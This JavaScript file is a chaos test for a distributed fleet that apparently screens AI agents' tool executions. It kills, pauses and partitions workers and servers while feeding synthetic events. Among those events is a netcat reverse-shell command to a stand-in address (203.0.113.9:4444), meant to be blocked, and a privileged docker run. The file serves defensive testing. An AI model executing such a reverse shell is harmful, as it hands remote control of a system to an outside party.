// Runs a fleet while its workers and servers are killed and its network is cut.

import { setTimeout as delay } from "node:timers/promises";
import { jetstreamManager } from "@nats-io/jetstream";
import { connect } from "@nats-io/transport-node";
import { BUILT_IN_RULES, start, succeed } from "./commands.mjs";
import { Decided } from "./decided.mjs";
import { startModel } from "./model.mjs";
import { Servers } from "./servers.mjs";

/** @typedef {{ events: number, servers: number, workers: number, kills: number, pauses: number, leaderKills: number, cutMs: number, limitMs: number }} Plan */

const AGENTS = 40;
const PARTITIONS = 8;
const AWAY_MS = 2_000;
const TIER_MS = 50;
/** For longer than after which messages are delivered to others. */
const PAUSE_MS = 7_000;

/** @param {Plan} plan @param {string} folder */
export async function chaos(plan, folder) {
  const counts = { kills: 0, pauses: 0, leaderKills: 0, cuts: 0 };
  const decided = new Decided();
  const servers = await Servers.start(plan.servers, folder);
  const stop = new AbortController();
  /** @type {ReturnType<typeof start>[]} */
  const workers = [];
  let started = 0;
  const model = await startModel(TIER_MS);
  const startWorker = () =>
    workers.push(
      start(["worker", "--server", servers.urls, "--name", `w${started++}`, "--llm-url", model.url, ...BUILT_IN_RULES]),
    );
  try {
    const size = ["--partitions", String(PARTITIONS), "--replicas", String(plan.servers === 1 ? 1 : 3)];
    await retried(() => succeed(["fleet", "init", "--server", servers.urls, ...size]));
    for (let at = 0; at < plan.workers; at++) startWorker();
    const shipper = start([
      "ship",
      "--server",
      servers.urls,
      "--spool",
      `${folder}/spool`,
      "--name",
      "n1",
      ...size.slice(0, 2),
      "--linger",
      "5",
    ]);
    const connection = await connect({
      servers: servers.urls.split(","),
      maxReconnectAttempts: -1,
      reconnectTimeWait: 200,
    });
    const reading = decided.read(connection, stop.signal);
    const begin = Date.now();
    // The input comes as long as the faults do.
    const feeding = feed(shipper.child.stdin, plan.events, () => counts.kills / Math.max(1, plan.kills));
    const until = async (/** @type {number} */ share) => {
      while (decided.events < share * plan.events) {
        if (Date.now() - begin > plan.limitMs) throw new Error(lateText(decided, plan, [shipper, ...workers]));
        await delay(20);
      }
    };
    for (let fault = 1; fault <= plan.kills; fault++) {
      const share = fault / (plan.kills + 1);
      await until(share * 0.9);
      workers.shift()?.child.kill("SIGKILL");
      counts.kills += 1;
      if (counts.leaderKills < plan.leaderKills && share >= (counts.leaderKills + 1) / (plan.leaderKills + 2)) {
        const restarted = servers.restart(await leader(connection), AWAY_MS);
        counts.leaderKills += 1;
        // A worker that starts while there is no leader.
        startWorker();
        await restarted;
      } else {
        startWorker();
      }
      if (counts.pauses < plan.pauses && share >= (counts.pauses + 1) / (plan.pauses + 1)) {
        await pause(workers.at(-2));
        counts.pauses += 1;
      }
      if (counts.cuts === 0 && share >= 0.5 && plan.cutMs > 0) {
        await servers.cut(plan.cutMs);
        counts.cuts += 1;
      }
    }
    await feeding;
    await until(1);
    // Decisions that are stored twice come within the time after which messages are delivered again.
    await delay(200);
    stop.abort();
    await connection.close();
    await reading.catch(() => {});
    decided.check(plan.events);
    for (const { child, said } of workers) if (child.exitCode !== null) decided.problem(`a worker ended: ${said}`);
    return { decided, counts: { ...counts, escalations: model.requests }, tookS: (Date.now() - begin) / 1000 };
  } finally {
    for (const { child } of workers) child.kill("SIGKILL");
    model.close();
    await servers.stop();
  }
}

/** Stops a worker, which then goes on with what others have meanwhile. @param {ReturnType<typeof start> | undefined} worker */
async function pause(worker) {
  worker?.child.kill("SIGSTOP");
  await delay(PAUSE_MS);
  worker?.child.kill("SIGCONT");
}

/** Writes events, no further ahead than the faults are. @param {import("node:stream").Writable} input @param {number} events @param {() => number} progress */
async function feed(input, events, progress) {
  for (let sent = 0; sent < events; ) {
    if (sent > (progress() + 0.2) * events) {
      await delay(20);
      continue;
    }
    let text = "";
    for (const end = Math.min(events, sent + 500); sent < end; sent++) text += line(sent);
    if (!input.write(text)) await new Promise((resolve) => input.once("drain", resolve));
  }
  input.end();
}

/** One event in a hundred is blocked, and one in five hundred is for the slow tier. @param {number} number */
function line(number) {
  const argv =
    number % 100 === 0
      ? ["/usr/bin/nc", "-e", "/bin/sh", "203.0.113.9", "4444"]
      : number % 500 === 1
        ? ["docker", "run", "--privileged", `registry.example/build:${number}`]
        : ["/usr/bin/git", "status", `n${number}`];
  const agent = `agent.${(number * 7919) % AGENTS}`;
  return `${JSON.stringify({ identity: { agent }, id: `${number}`, event: { ToolExec: { pid: 7, argv } } })}\n`;
}

/** The name of the server that leads the stream of events. @param {import("@nats-io/transport-node").NatsConnection} connection */
async function leader(connection) {
  return await retried(async () => {
    const { cluster } = await (await jetstreamManager(connection)).streams.info("SENTRY_EVENTS");
    return cluster?.leader ?? "n0";
  });
}

/** A cluster that elects a leader answers after a while. @template T @param {() => Promise<T>} work @returns {Promise<T>} */
async function retried(work) {
  for (let tries = 0; ; tries++) {
    try {
      return await work();
    } catch (error) {
      if (tries > 30) throw error;
      await delay(500);
    }
  }
}

/** @param {Decided} decided @param {Plan} plan @param {{ said: string }[]} processes */
function lateText(decided, plan, processes) {
  const said = processes.map((one) => one.said.slice(-600)).join("\n--\n");
  return `${decided.events} of ${plan.events} events are decided after ${plan.limitMs / 1000} s:\n${said}`;
}
